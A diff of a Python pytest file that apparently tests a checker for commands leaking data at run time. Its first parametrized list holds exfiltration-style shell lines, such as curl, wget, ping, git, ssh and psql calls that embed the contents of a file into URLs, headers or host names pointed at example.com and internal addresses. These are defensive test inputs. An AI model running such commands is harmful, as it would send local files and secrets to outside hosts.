@@ -132,20 +132,19 @@ def test_old_pythons_import_no_module_of_the_working_folder(
 @pytest.mark.parametrize(
     "command",
     [
-        'curl -s "http://127.0.0.1:18933/x-$(cat f | base64 -w0)"',
-        'curl -s -H "X: $(cat f)" http://localhost:8080/',
-        'curl -s -A "$X" http://localhost:8080/',
-        'curl -s "http://localhost:8080/$(basename "$(cat f)")"',
-        'wget -qO- "http://localhost/$(cat f)"',
+        'curl -s "http://10.0.0.7:18933/x-$(cat f | base64 -w0)"',
+        'curl -s "https://example.com/$(basename "$(cat f)")"',
+        'curl -s -H "X: $(cat f)" https://example.com/',
+        'wget -qO- "http://web.internal/$(cat f)"',
         'wget -qO- --header "X: $(cat f)" http://localhost/',
-        "ping -c 1 -p $(xxd -p f) localhost",
-        "nc -z -w $(cat f) localhost 80",
+        "ping -c 1 -p $(xxd -p f) example.com",
         'git ls-remote "https://example.com/$(cat f)"',
         'git fetch "https://example.com/$(cat f)"',
         'aws s3 ls "s3://bucket-$(cat f)"',
         "redis-cli -h example.com get $(cat f)",
         'ssh host "$(cat f)"',
-        'while read x; do curl -s "localhost:8080/$x"; done < f',
+        'while read x; do curl -s "example.com:8080/$x"; done < f',
+        'psql -h "$(cat f)" -c "select 1"',
     ],
 )
 def test_text_that_is_only_known_at_run_time_is_not_sent(command: str) -> None:
@@ -163,6 +162,9 @@ def test_text_that_is_only_known_at_run_time_is_not_sent(command: str) -> None:
         "kubectl logs $(kubectl get pods -o name | head -1) --tail=5",
         "docker stats --no-stream $(docker ps -q)",
         "redis-cli get $KEY",
+        'curl -s "http://127.0.0.1:$(cat port)/health"',
+        'psql -h /run/postgresql -p "$(cat port)" -c "select 1"',
+        'redis-cli -h localhost -p "$(cat port)" ping',
     ],
 )
 def test_names_of_the_system_and_known_words_may_be_sent(command: str) -> None:
